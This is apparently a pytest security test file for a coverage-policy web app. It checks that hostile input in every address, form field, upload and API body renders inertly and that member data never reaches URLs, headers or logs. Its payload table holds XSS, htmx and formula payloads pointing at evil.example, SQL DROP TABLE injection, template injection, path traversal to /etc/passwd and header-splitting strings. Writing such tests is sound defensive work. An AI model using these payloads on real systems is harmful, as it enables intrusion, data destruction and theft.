"""Hostile texts in every field, file, name and document come back as texts; nothing of a member leaves the page."""

from __future__ import annotations

import contextlib
import json
import logging
import re
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from coverable.web.site import Settings
from publish.conftest import parsed
from small_library import GLOSSARY, POLICY, write_library
from web.conftest import CASE, HTMX, ITEM, TODAY, by_id, client_of, fields, inert, loaded, serving, tree

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "closing": "</title></textarea></script><script src=//evil.example></script>",
    "handler": "\" onmouseover=alert(1) x=\"' onfocus='alert(1)' autofocus",
    "image": "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "address": "javascript:alert(1)//http://evil.example",
    "htmx": '" hx-get="//evil.example" hx-on::load="alert(1)" hx-trigger="load',
    "template": "{{ 7 * 191 }}{% include 'base.html' %}{# x #}${7*191}#{7*191}",
    "sql": "'; DROP TABLE policies; -- \" OR 1=1",
    "formula": "=HYPERLINK(\"http://evil.example\",\"x\")",
    "bidi": "\u202egnp.exe\u2066\u200b\ufeff\u0301",
    "nul": "a\x00b\x1b[31m\x7f",
    "path": "../../../../etc/passwd%00\\..\\..",
    "lines": "a\r\nset-cookie: x=1\r\n\r\n<html>",
    "long": "w" * 100_000,
    "many": "x y " * 5_000,
    "digits": "9" * 5_000,
    "lone": "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    "entity": "&lt;script&gt;&#x3c;script&#x3e;&nbsp",
    "json": '{"a": [1, {"b": "',
}  # fmt: skip
MARK = "Zq7marked"
SMALL = "/policies/test/sleep/1"


def harmless(answer: Any, page: bool = True) -> None:
    """No fault of ours; a page of ours is whole, and nothing in it runs."""
    assert answer.status_code < 500, answer.text[:300]
    assert "1337" not in answer.text
    assert "evil.example" not in str(answer.headers)
    assert "set-cookie" not in answer.headers
    if answer.headers["content-type"].startswith("text/html") and page:
        inert(parsed(answer.text))


@pytest.fixture(params=HOSTILE, scope="module")
def text(request: pytest.FixtureRequest) -> str:
    return HOSTILE[request.param]


def test_in_every_part_of_an_address(client: TestClient, text: str) -> None:
    short = text[:4_000]
    accept = {"accept": "text/html"}
    for path, names in (
        ("/", ("q", "plan", "date")),
        ("/search", ("q", "plan", "on")),
        ("/checklist", ("plan", "code", "date")),
        ("/compare", ("first", "second", "on", "all")),
        ("/compare.csv", ("first", "second", "on")),
        ("/policies/sentara/dme-32", ("reader",)),
    ):
        for headers in (accept, accept | HTMX):
            for value in (short, short[:200]):
                harmless(client.get(path, params=dict.fromkeys(names, value), headers=headers))
                for name in names:
                    harmless(client.get(path, params={name: value}, headers=headers))
        harmless(client.get(f"/api{path if path != '/' else '/need'}", params=dict.fromkeys(names, short)))
    part = urllib.parse.quote(short[:500], safe="")
    for path in (
        f"/{part}",
        f"/policies/{part}/{part}",
        f"/policies/sentara/dme-32/{part}",
        f"/static/{part}",
        f"/api/{part}",
    ):
        harmless(client.get(path, headers=accept))


def test_a_text_that_was_looked_for_is_shown_as_it_is(client: TestClient) -> None:
    for name in ("script", "handler", "template", "sql", "formula", "entity"):
        said = HOSTILE[name]
        page = tree(client.get("/search", params={"q": said}, headers={"accept": "text/html"}))
        assert by_id(page, "words").attributes["value"] == said


def test_in_every_field_of_the_checklist(client: TestClient, text: str) -> None:
    names = fields(tree(client.post("/checklist", data=CASE | ITEM | {"reader": "reviewer"}))).keys() - {
        "base"
    }
    sent = {"accept": "text/html"}
    for headers in (sent, sent | HTMX):
        harmless(
            client.post("/checklist", data=CASE | dict.fromkeys(names - CASE.keys(), text), headers=headers)
        )
    harmless(client.post("/checklist", data=dict.fromkeys(names, text), headers=sent))
    for name in (
        *CASE,
        "f.use",
        "f.device_model",
        "s.use",
        "e.antiperspirant_trials.0.agent",
        "birth_date",
        "i.AM-2",
    ):
        harmless(
            client.post("/checklist", data=CASE | ITEM | {"reader": "reviewer", name: text}, headers=sent)
        )
    for path in ("/checklist/send", "/checklist/request", "/checklist/what-if"):
        harmless(
            client.post(
                path,
                data=CASE | ITEM | {"f.device_model": text, "s.use": text, "k.use": "label"},
                headers=sent,
            )
        )
    harmless(
        client.post("/checklist/sheet", data=CASE | ITEM | {"f.device_model": text}, headers=sent), page=False
    )
    for hidden in ("base", "kept"):
        for path in ("/checklist", "/checklist/documented", "/checklist/send"):
            for value in (
                text,
                json.dumps(text),
                json.dumps(
                    {
                        "services": [{"code": text, "date": text}],
                        "coverages": [text],
                        "facts": {text[:50]: text},
                        "id": text,
                    }
                ),
            ):
                harmless(client.post(path, data=CASE | {hidden: value, "reader": "reviewer"}, headers=sent))


def test_in_files_and_their_names(client: TestClient, text: str) -> None:
    sent = {"accept": "text/html"}
    request = {
        "id": text,
        "coverages": [text],
        "services": [{"code": text[:3_000], "description": text}],
        "facts": {"device_model": text},
    }
    name = re.sub(r"[\r\n\x00]", " ", text)[:300] or "x"
    for content in (json.dumps(request), json.dumps([request, request]), text):
        raw = content.encode("utf-8", "replace")
        harmless(client.post("/checklist/load", files={"file": (name, raw)}, headers=sent))
        for kind in ("", ".jsonl"):
            both = {"first": "meadowlark/mp-101@2024", "second": "meadowlark/mp-101@2026"}
            harmless(
                client.post("/compare/effect", data=both, files={"file": (name + kind, raw)}, headers=sent)
            )
            harmless(
                client.post(
                    "/compare/effect",
                    data=dict.fromkeys(both, text),
                    files={"file": (name + kind, raw)},
                    headers=sent,
                )
            )


def test_in_every_body_for_programs(client: TestClient, text: str) -> None:
    for path, body in (
        ("/api/need", {"asked": text, "plan": text, "date": text, "provider": text}),
        ("/api/need", {"asked": text[:3_000], "plan": "sentara/medicare"}),
        ("/api/need", {text: text}),
        ("/api/policies", {"words": text, "plan": text, "on": text}),
        ("/api/policies", {"words": text}),
        (
            "/api/check",
            {"id": text, "coverages": [text], "services": [{"code": text}], "facts": {text: text}},
        ),
        ("/api/check", [text, {text: text}]),
        ("/api/checklist", {"coverages": [text], "services": [{"code": text}], "diagnoses": [text]}),
    ):
        answer = client.post(path, json=body)
        harmless(answer)
        assert answer.headers["content-type"] == "application/json"


@pytest.mark.parametrize(
    "name",
    ["script", "closing", "handler", "image", "address", "htmx", "template", "sql", "formula", "entity"],
)
def test_in_a_policy_its_glossary_and_its_document(tmp_path: Path, name: str) -> None:
    said = HOSTILE[name]
    quoted = json.dumps(said)
    policy = (
        POLICY.replace("title: Sleep device", f"title: {quoted}").replace("publisher: Test", f"publisher: {quoted}")
        .replace("number: T 1", f"number: {quoted}").replace("source: {title: none, lines: 50}", f"source: {{title: {quoted}, lines: 50}}")
        .replace("service: device\n    applies_if", f"service: device\n    says: {quoted}\n    applies_if")
        .replace("all_other_uses: true,", f"all_other_uses: true, says: {quoted},")
    )  # fmt: skip
    glossary = (
        GLOSSARY.replace("ask: Tired?, plain: Tired?", f"ask: {quoted}, plain: {quoted}, help: {quoted}")
        .replace("label: Snores", f"label: {quoted}")
        .replace("sleep: sleep,", f"sleep: {quoted},")
    )
    assert policy.count(quoted) >= 6
    assert glossary.count(quoted) == 5
    answers = client_of(Settings(write_library(tmp_path, policy=policy, glossary=glossary), today=TODAY))
    case = {
        "plan": "test/plan",
        "code": "E0601",
        "date": "2026-06-15",
        "f.kind": "mask",
        "f.use": "sleep",
        "reader": "reviewer",
    }
    sent = {"accept": "text/html"}
    seen = 0
    for answer in (
        *(
            answers.get(path, headers=sent)
            for path in (
                "/policies",
                SMALL,
                f"{SMALL}?reader=member",
                f"{SMALL}?reader=cms-10913",
                "/search?q=E0601",
                "/?q=E0601",
                "/?q=E0601&plan=test/plan&date=2026-06-15",
            )
        ),
        answers.get(
            "/compare", params={"first": "test/sleep", "second": "test/sleep", "all": "true"}, headers=sent
        ),
        answers.post("/checklist", data=case, headers=sent),
        answers.post("/checklist/send", data=case, headers=sent),
    ):
        assert answer.status_code == 200, answer.text[:400]
        harmless(answer)
        seen += " ".join(said.split()) in parsed(answer.text).text
    assert seen >= 5
    table = answers.get("/compare.csv", params={"first": "test/sleep", "second": "test/sleep"})
    assert not re.search(r"(^|,)\"?[=+@]", table.text, re.MULTILINE)


MEMBER: dict[str, Any] = {
    "id": f"{MARK}-id", "member": {"id": f"{MARK}-member", "birth_date": "1954-05-02"}, "coverages": ["sentara/medicare"],
    "services": [{"code": "E1399", "date": "2026-02-10", "description": f"{MARK} described"}], "diagnoses": ["L74.512"],
    "facts": {"use": "hyperhidrosis", "device_kind": "iontophoresis", "device_model": f"{MARK} model",
              "skin_maceration": {"value": True, "from": [{"kind": "medical_record", "source": f"{MARK} note", "place": f"{MARK} page"}]}},
}  # fmt: skip
PRIVATE = (MARK, "1954-05-02", "L74.512", "hyperhidrosis")


def test_no_value_of_a_member_stands_in_an_address_a_title_a_header_or_a_log(
    client: TestClient, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    page = loaded(client, json.dumps(MEMBER), f"{MARK}.json")
    sent = {**fields(page), "reader": ["reviewer"]}
    assert MARK in json.dumps(sent)
    for path in (
        "/checklist",
        "/checklist/send",
        "/checklist/sheet",
        "/checklist/request",
        "/checklist/what-if",
    ):
        for wrong in ({}, {"birth_date": [f"{MARK}"]}, {"f.use": [f"{MARK}"]}):
            answer = client.post(path, data={**sent, **wrong})
            assert not any(value in str(answer.headers) for value in PRIVATE)
            if not answer.headers["content-type"].startswith("text/html"):
                continue
            shown = parsed(answer.text)
            for one in shown.all("a", "form", "link", "script", "button"):
                for name in ("href", "src", "action", "formaction", "hx-get", "hx-post"):
                    assert not any(
                        v in urllib.parse.unquote(one.attributes.get(name, "")) for v in PRIVATE
                    ), one
            assert not any(value in one.text for one in shown.all("title", "h1") for value in PRIVATE)
    bad = {**MEMBER, "facts": {"use": f"{MARK}"}, "services": []}
    refused = client.post("/api/check", json=bad)
    assert refused.status_code == 400
    assert not any(value in caplog.text for value in PRIVATE)


def test_a_server_writes_nothing_of_what_was_asked(tmp_path: Path) -> None:
    log = tmp_path / "log.txt"
    with serving(log) as at:
        bodies = [json.dumps(MEMBER), json.dumps({**MEMBER, "facts": {"use": MARK}}), MARK]
        for body in bodies:
            asked = urllib.request.Request(
                f"{at}/api/check", body.encode(), {"content-type": "application/json"}
            )
            with contextlib.suppress(urllib.error.HTTPError), urllib.request.urlopen(asked) as answer:
                assert answer.status == 200
        form = urllib.parse.urlencode(CASE | ITEM | {"f.device_model": MARK})
        with urllib.request.urlopen(f"{at}/checklist", form.encode()) as answer:
            assert MARK in answer.read().decode()
        with urllib.request.urlopen(f"{at}/?q={MARK}") as answer:
            assert answer.status == 200
            assert "server" not in {name.lower() for name in answer.headers}
    written = log.read_text()
    assert "Ctrl+C" in written or "look up a code" in written
    assert not any(value in written for value in (MARK, "1954-05-02", "L74.512"))
